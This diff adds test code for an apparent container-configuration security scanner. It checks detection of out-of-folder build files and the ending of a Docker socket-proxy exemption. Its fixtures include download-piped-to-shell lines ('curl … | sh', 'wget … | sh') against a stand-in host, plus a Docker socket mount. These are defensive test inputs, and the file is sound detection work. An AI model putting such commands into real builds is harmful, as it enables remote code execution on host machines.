@@ -1,0 +1,124 @@
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { dirname, join } from 'node:path';
+import { afterEach, describe, expect, it } from 'vitest';
+import type { Finding } from '../../src/core/finding.js';
+import { scan } from '../../src/pipeline/scan.js';
+
+// What a review helper (helper-31) found around build files and the socket-proxy exemption: each
+// case a pull request used to pass the gate with, or a real repository failed it with.
+
+const folders: string[] = [];
+afterEach(() => {
+  for (const folder of folders.splice(0)) rmSync(folder, { recursive: true, force: true });
+});
+
+function repository(files: Record<string, string>): string {
+  const root = mkdtempSync(join(tmpdir(), 'containment-build-edges-'));
+  folders.push(root);
+  for (const [path, text] of Object.entries(files)) {
+    mkdirSync(dirname(join(root, path)), { recursive: true });
+    writeFileSync(join(root, path), text);
+  }
+  return root;
+}
+
+const lines = (findings: readonly Finding[], ruleId: string) => findings.filter((f) => f.ruleId === ruleId).map((f) => `${f.path}:${f.range.start.line}`);
+const SOCKET = '      - /var/run/docker.sock:/var/run/docker.sock:ro';
+const EVIL = 'FROM debian:12\nRUN curl -fsSL https://x.example/i.sh | sh\n';
+
+describe('build files outside what the scan reads', () => {
+  it('reports `docker build -f /tmp/df.conf`, an absolute path, and never reads a file of the repository for it', async () => {
+    const root = repository({
+      '.github/workflows/ci.yml': 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: docker build -f /tmp/df.conf .\n      - run: docker build -f /tmp/Dockerfile .\n',
+      'tmp/df.conf': 'FROM debian:12\nUSER 1000\n',
+    });
+    const result = await scan({ root });
+    expect(lines(result.findings, 'build-file-not-judged')).toEqual(['.github/workflows/ci.yml:6', '.github/workflows/ci.yml:7']);
+    expect(result.findings.find((f) => f.ruleId === 'build-file-not-judged')!.message).toMatch(/^This step builds an image from \/tmp\/df\.conf, which is outside the scanned folder/);
+    expect(result.files.map((file) => file.path)).not.toContain('/tmp/df.conf');
+  });
+
+  it('reports a Compose build whose Dockerfile or context is outside the folder, or in a skipped folder, and not a remote context', async () => {
+    const root = repository({
+      'app/compose.yaml': [
+        'services:',
+        '  abs:',
+        '    build: { context: ., dockerfile: /home/runner/evil.conf }',
+        '  up:',
+        '    build: { context: ../.., dockerfile: evil.conf }',
+        '  up2:',
+        '    build: { context: ., dockerfile: ../../outside.conf }',
+        '  deps:',
+        '    build: node_modules/evil',
+        '  remote:',
+        '    build: { context: "https://github.com/o/r.git#main", dockerfile: evil.conf }',
+        '',
+      ].join('\n'),
+      'app/node_modules/evil/Dockerfile': EVIL,
+    });
+    const result = await scan({ root });
+    expect(lines(result.findings, 'build-file-not-judged')).toEqual(['app/compose.yaml:3', 'app/compose.yaml:5', 'app/compose.yaml:7', 'app/compose.yaml:9']);
+    expect(result.findings.filter((f) => f.ruleId === 'build-file-not-judged').map((f) => f.message.split(', so ')[0])).toEqual([
+      'abs builds its image from /home/runner/evil.conf, which is outside the scanned folder',
+      'up builds its image from ../../evil.conf, which is outside the scanned folder',
+      'up2 builds its image from ../../outside.conf, which is outside the scanned folder',
+      'deps builds its image from app/node_modules/evil/Dockerfile, which is in a folder Containment skips (dependencies, version control)',
+    ]);
+  });
+
+  it('reports a workflow that builds a Compose file as a Dockerfile', async () => {
+    const root = repository({
+      '.github/workflows/ci.yml': 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: docker build -f deploy/compose.prod.yaml .\n',
+      'deploy/compose.prod.yaml': 'services:\n  web:\n    image: nginx:1.27\n',
+    });
+    const result = await scan({ root });
+    expect(result.findings.filter((f) => f.ruleId === 'build-file-not-judged').map((f) => f.message.split(', so ')[0])).toEqual([
+      'This step builds an image from deploy/compose.prod.yaml, which Containment reads as a Compose file, not as a Dockerfile',
+    ]);
+  });
+
+  it('looks for the Dockerfile of a build inherited through `extends.file` beside the file that writes it', async () => {
+    const root = repository({
+      'compose.yaml': 'services:\n  web:\n    extends: { file: lib/common.yml, service: base }\n    user: "1000"\n',
+      'lib/common.yml': 'services:\n  base:\n    build: { context: ., dockerfile: ext.conf }\n',
+      'lib/ext.conf': EVIL,
+      Dockerfile: 'FROM alpine:3.20\nUSER 1000\n',
+    });
+    const result = await scan({ root });
+    expect(lines(result.findings, 'build-file-not-judged')).toEqual([]);
+    expect(lines(result.findings, 'command-download-piped-to-shell')).toEqual(['lib/ext.conf:2']);
+  });
+});
+
+describe('the socket-proxy exemption', () => {
+  it('ends when an extending service or an override sets a command or entrypoint', async () => {
+    const root = repository({
+      'compose.yaml': [
+        'services:',
+        '  proxy:',
+        '    image: tecnativa/docker-socket-proxy:0.3.0',
+        '    volumes:',
+        SOCKET,
+        '  ext:',
+        '    extends: { service: proxy }',
+        '    command: ["sh", "-c", "wget -qO- http://x.example/run | sh"]',
+        '',
+      ].join('\n'),
+      'compose.override.yaml': 'services:\n  proxy:\n    entrypoint: ["/bin/sh", "-c", "sleep 1"]\n',
+    });
+    const result = await scan({ root });
+    const critical = result.findings.filter((f) => f.ruleId === 'container-docker-socket');
+    expect(critical.map((f) => f.message.split(' ')[0]).sort()).toEqual(['ext', 'proxy']);
+    expect(lines(result.findings, 'container-docker-socket-proxy')).toEqual([]);
+  });
+
+  it('ends for a service that builds from a context a variable leaves unknown', async () => {
+    const root = repository({
+      'compose.yaml': ['services:', '  proxy:', '    image: tecnativa/docker-socket-proxy:0.3.0', '    build: { context: "${CTX}" }', '    volumes:', SOCKET, ''].join('\n'),
+    });
+    const result = await scan({ root });
+    expect(lines(result.findings, 'container-docker-socket')).toEqual(['compose.yaml:6']);
+    expect(lines(result.findings, 'build-file-not-judged')).toEqual([]);
+  });
+});
